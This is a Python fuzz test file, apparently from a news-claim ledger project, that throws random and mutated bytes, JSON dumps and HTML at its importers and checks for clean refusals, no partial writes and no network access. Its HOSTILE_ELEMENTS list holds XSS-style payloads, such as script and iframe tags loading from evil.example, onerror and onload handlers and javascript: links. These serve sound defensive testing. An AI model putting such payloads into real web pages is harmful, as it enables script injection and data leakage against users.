"""Hostile input for every importer: article bytes, ``import_bytes`` (on the backend under test),
JSON dumps (random and mutated), HTML with scripts, frames and remote resources. The contract:
never a crash — an ``ArticleError``/``InputError`` with a one-line message, or a clean import —
nothing half-written, and nothing fetched from the network."""
from __future__ import annotations

import copy
import io
import json
import socket
from datetime import date

import pytest
from hypothesis import HealthCheck, event, given, settings, strategies as st
from hypothesis.control import currently_in_test_context
from sqlalchemy import text

from claimledger.extraction.article import ArticleError, parse_article
from claimledger.services import InputError, Ledger
from helpers import SEED

TODAY = date(2026, 11, 28)
TABLES = ("article", "speaker", "claim", "outcome_event", "meta")
SECRET = "SECRET_PAYLOAD"
SHARED = settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Parsing an article must never fetch anything: any attempt fails the test."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"network access attempted: {args[:2]}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def one_line(exc: BaseException) -> str:
    message = str(exc)
    assert message and "\n" not in message and "\r" not in message, repr(message)
    assert "Traceback" not in message
    return message


def counts(ledger) -> dict[str, int]:
    with ledger.engine.connect() as c:
        return {t: c.execute(text(f"SELECT count(*) FROM {t}")).scalar() for t in TABLES}


# -- article files ----------------------------------------------------------------------------
# well-formed hostile elements: what is inside them must never become article text
HOSTILE_ELEMENTS = [
    f"<script>document.write('{SECRET}')</script>",
    f"<script src='http://evil.example/x.js'>{SECRET}</script>",
    f"<SCRIPT type=module>import('http://evil.example/{SECRET}.js')</SCRIPT>",
    f"<style>body {{ background: url(http://evil.example/{SECRET}.png) }}</style>",
    f"<iframe src='http://evil.example/'>{SECRET}</iframe>",
    f"<iframe srcdoc='<script>{SECRET}</script>'></iframe>",
    "<img src='http://evil.example/pixel.gif' onerror='alert(1)'>",
    "<link rel=stylesheet href='http://evil.example/a.css'>",
    "<object data='http://evil.example/x.swf'></object>",
    f"<svg onload='alert(1)'><text>{SECRET}</text></svg>",
    f"<noscript>{SECRET}</noscript>",
    f"<template><p>{SECRET}</p></template>",
    "<a href='javascript:alert(1)'>a link</a>",
    "<meta http-equiv='refresh' content='0;url=http://evil.example/'>",
    "<!-- a comment <script>x</script> -->",
    "&amp;&lt;script&gt; &nbsp; &#233;",
    "<p>", "</p>", "<div>", "<br>", "</div>", "<b>", "</b>", "<li>",
]
# fragments that are not well-formed: only "never a crash" is asked of them
BROKEN_MARKUP = ["<", ">", "</", "<!", "</<", "<?xml version='1.0'?>", "<![CDATA[ raw ]]>", "&#0;", "&#x110000;",
                 "&#xD800;", "&unknown;", "<title>", "</title>", "<html>", "<body>", "<script>", "<iframe>",
                 "<!doctype", "<p class='unclosed", "<<>>"]
SENTENCES = ["The minister said taxes will rise next year.", "The council will vote by March 3.",
             "Officials expect the bridge to open in 2027.", "It rained.", "Stocks fell 3%."]
PLAIN = st.text(alphabet=st.characters(blacklist_characters="<&>", blacklist_categories=("Cs",)), max_size=40)


@st.composite
def html_documents(draw, broken: bool = True):
    parts = [draw(st.sampled_from(["<!doctype html>", "<html>", "<html><body>", "<!DOCTYPE html><html><head>"
                                   "<title>T</title></head><body>"]))]
    pieces = [st.sampled_from(HOSTILE_ELEMENTS), st.sampled_from(SENTENCES), PLAIN]
    if broken:
        pieces += [st.sampled_from(BROKEN_MARKUP), st.text(max_size=40)]
    for _ in range(draw(st.integers(1, 12))):
        parts.append(draw(st.one_of(*pieces)))
    return "".join(parts)


@st.composite
def text_articles(draw):
    header = draw(st.one_of(
        st.just(""),
        st.builds(lambda y, m, d: f" date {y:04d}-{m}-{d} ", st.integers(0, 9999), st.integers(0, 19), st.integers(0, 40)),
        st.builds(lambda body: f"---\n{body}\n---\n", st.text(max_size=80)),
        st.builds(lambda t, d: f"---\ntitle: {t}\ndate: {d}\noutlet: {t * 30}\n---\n", st.text(max_size=20),
                  st.text(max_size=12)),
    ))
    body = " ".join(draw(st.lists(st.one_of(st.sampled_from(SENTENCES), st.text(max_size=60)), min_size=0, max_size=6)))
    return header + body


def encodings(strategy):
    return st.tuples(strategy, st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252"]),
                     st.sampled_from(["\n", "\r\n", "\r"])).map(_encode)


def _encode(args):
    doc, encoding, newline = args
    return doc.replace("\n", newline).encode(encoding, errors="replace")


ARTICLE_BYTES = st.one_of(st.binary(max_size=600), encodings(text_articles()), encodings(html_documents()))


@pytest.mark.slow  # hundreds of generated inputs, 1-2 s
@settings(max_examples=400, deadline=None)
@given(raw=ARTICLE_BYTES, name=st.sampled_from(["a.txt", "a.md", "a.html", "a", "A.HTM"]))
def test_parse_article_never_crashes(raw, name):
    try:
        a = parse_article(raw, filename=name)
    except ArticleError as exc:
        one_line(exc)
        return
    assert a.text.strip() and a.title.strip()


@pytest.mark.slow  # 300 generated pages through trafilatura, ~8 s
@settings(max_examples=300, deadline=None)
@given(doc=html_documents(broken=False))
def test_html_scripts_frames_and_remote_resources_are_dropped(doc):
    try:
        a = parse_article(doc.encode(), filename="page.html")
    except ArticleError as exc:
        one_line(exc)
        return
    assert SECRET not in a.text and "evil.example" not in a.text


@pytest.mark.parametrize("raw", [
    b"\xff\xfe" + "It will rain\x00 tomorrow, officials said.".encode("utf-16-le"),
    b" date 2021-07-06 " + b"The council will vote next week. " * 400 + b"\x00 trailing",
])
def test_nul_characters_are_refused_or_stored(new_db, raw):
    """PostgreSQL text cannot hold U+0000; SQLite can. Either way: a clean refusal or a clean import."""
    ledger = Ledger.open(new_db("nul"), today=TODAY)
    before = counts(ledger)
    try:
        r = ledger.importer.import_bytes(raw, origin="nul.txt", published="2021-07-06")
    except InputError as exc:
        one_line(exc)
        assert counts(ledger) == before
    else:
        view = ledger.reader.get_article(r.article_id)
        assert view.text
        assert "nul" in [a.origin.split(".")[0] for a in ledger.reader.list_articles()]
    ledger.close()


@pytest.fixture
def import_ledger(new_db):
    ledger = Ledger.open(new_db("hostile"), today=TODAY, author="fuzz")
    yield ledger
    ledger.close()


@pytest.mark.slow  # hundreds of generated inputs, 1-2 s
@settings(SHARED, max_examples=120)
@given(raw=ARTICLE_BYTES, name=st.sampled_from(["a.txt", "a.md", "a.html"]),
       outlet=st.one_of(st.none(), st.text(max_size=300)), title=st.one_of(st.none(), st.text(min_size=1, max_size=50)))
def test_import_bytes_refuses_cleanly_or_imports_whole(import_ledger, raw, name, outlet, title):
    ledger = import_ledger
    before = counts(ledger)
    try:
        r = ledger.importer.import_bytes(raw, origin=name, published="2021-07-06", outlet=outlet, title=title)
    except InputError as exc:
        one_line(exc)
        assert counts(ledger) == before  # nothing half-written
        return
    view = ledger.reader.get_article(r.article_id)
    rows = ledger.reader.claims(ledger_filter(article_id=r.article_id), limit=None)
    assert len(rows) == (r.claims if r.created else len(rows))
    for row in rows:
        assert view.text[row.start:row.end] == row.quote


def ledger_filter(**kw):
    from claimledger.services import ClaimFilter

    return ClaimFilter(**kw)


# -- JSON dumps -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def valid_dump(tmp_path_factory) -> dict:
    ledger = Ledger.open(tmp_path_factory.mktemp("dump") / "src.db", today=TODAY, author="analyst")
    ledger.importer.import_file(SEED)
    ledger.importer.import_bytes(b" date 2021-07-06 The mayor, Jane Roe, promised to open the bridge by May 2022.", origin="b.txt")
    rows = ledger.reader.claims(limit=None)
    ledger.outcomes.record_outcome(rows[0].id, "in_progress", observed_on="2021-07-20", note="under way")
    ledger.outcomes.record_outcome(rows[0].id, "fulfilled", observed_on="2021-08-30", evidence_url="https://example.org/x")
    ledger.outcomes.update_claim(rows[1].id, {"summary": "a summary", "tags": "a,b"})
    buf = io.StringIO()
    ledger.dump.export_json(buf)
    ledger.close()
    return json.loads(buf.getvalue())


JSON_SCALARS = st.one_of(st.none(), st.booleans(), st.integers(-2**70, 2**70), st.floats(allow_nan=True),
                         st.text(max_size=30), st.sampled_from(["", "2021-02-30", "2021-07-06", "2021-07-06T10:00:00",
                                                               "x" * 400, "fulfilled", "plan", "\x00", "-1"]))
JSON_VALUES = st.recursive(JSON_SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                                 st.dictionaries(st.text(max_size=8), inner, max_size=3)),
                           max_leaves=6)


def _paths(node, prefix=()):
    yield prefix
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _paths(v, prefix + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _paths(v, prefix + (i,))


@st.composite
def mutated_dumps(draw, base):
    doc = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, 4))):
        paths = [p for p in _paths(doc) if p]
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent = doc
        for key in path[:-1]:
            parent = parent[key]
        key = path[-1]
        action = draw(st.sampled_from(["replace", "replace", "delete", "duplicate", "swap_id"]))
        if action == "replace":
            parent[key] = draw(JSON_VALUES)
        elif action == "delete":
            del parent[key]
        elif action == "duplicate" and isinstance(parent, list):
            parent.append(copy.deepcopy(parent[key]))
        elif action == "swap_id" and isinstance(parent[key], dict) and "id" in parent[key]:
            parent[key]["id"] = draw(st.integers(-3, 12))
    return doc


@pytest.fixture
def dump_ledger(new_db):
    ledger = Ledger.open(new_db("dumps"), today=TODAY)
    yield ledger
    ledger.close()


def _note(what: str) -> None:
    if currently_in_test_context():
        event(what)  # --hypothesis-show-statistics: how many mutated files were refused or went in


def _import_cleanly_or_refuse(ledger, doc):
    before = counts(ledger)
    try:
        added = ledger.dump.import_dump(doc)
    except InputError as exc:
        one_line(exc)
        _note("refused")
        assert counts(ledger) == before  # nothing half-written
        return None
    _note("imported")
    after = counts(ledger)
    assert after["outcome_event"] - before["outcome_event"] == added["outcome_events"]
    assert after["claim"] - before["claim"] == added["claims"]
    # what went in can be read back and exported again
    ledger.reader.claims(limit=None)
    buf = io.StringIO()
    ledger.dump.export_json(buf)
    json.loads(buf.getvalue())
    return added


@pytest.mark.slow  # hundreds of generated inputs, 1-2 s
@settings(SHARED, max_examples=150)
@given(data=st.data())
def test_mutated_dump_import_refuses_cleanly_or_imports(dump_ledger, valid_dump, data):
    doc = data.draw(mutated_dumps(valid_dump))
    _import_cleanly_or_refuse(dump_ledger, doc)


@settings(SHARED, max_examples=80)
@given(doc=JSON_VALUES)
def test_random_json_import_refuses_cleanly(dump_ledger, doc):
    _import_cleanly_or_refuse(dump_ledger, doc)


def test_valid_dump_still_round_trips(dump_ledger, valid_dump):
    assert _import_cleanly_or_refuse(dump_ledger, copy.deepcopy(valid_dump))["claims"] == len(valid_dump["claims"])


@pytest.mark.parametrize("content", [b"\xff\xfe\x00", b"[1, 2]", b'"text"', b"null", b"{" * 100_000, b"",
                                     b'{"format": "claimledger-dump", "version": 1e400}'])
def test_dump_file_garbage_refused(dump_ledger, tmp_path, content):
    path = tmp_path / "d.json"
    path.write_bytes(content)
    before = counts(dump_ledger)
    with pytest.raises(InputError) as exc:
        dump_ledger.dump.import_json_file(path)
    assert str(path) in one_line(exc.value)
    assert counts(dump_ledger) == before
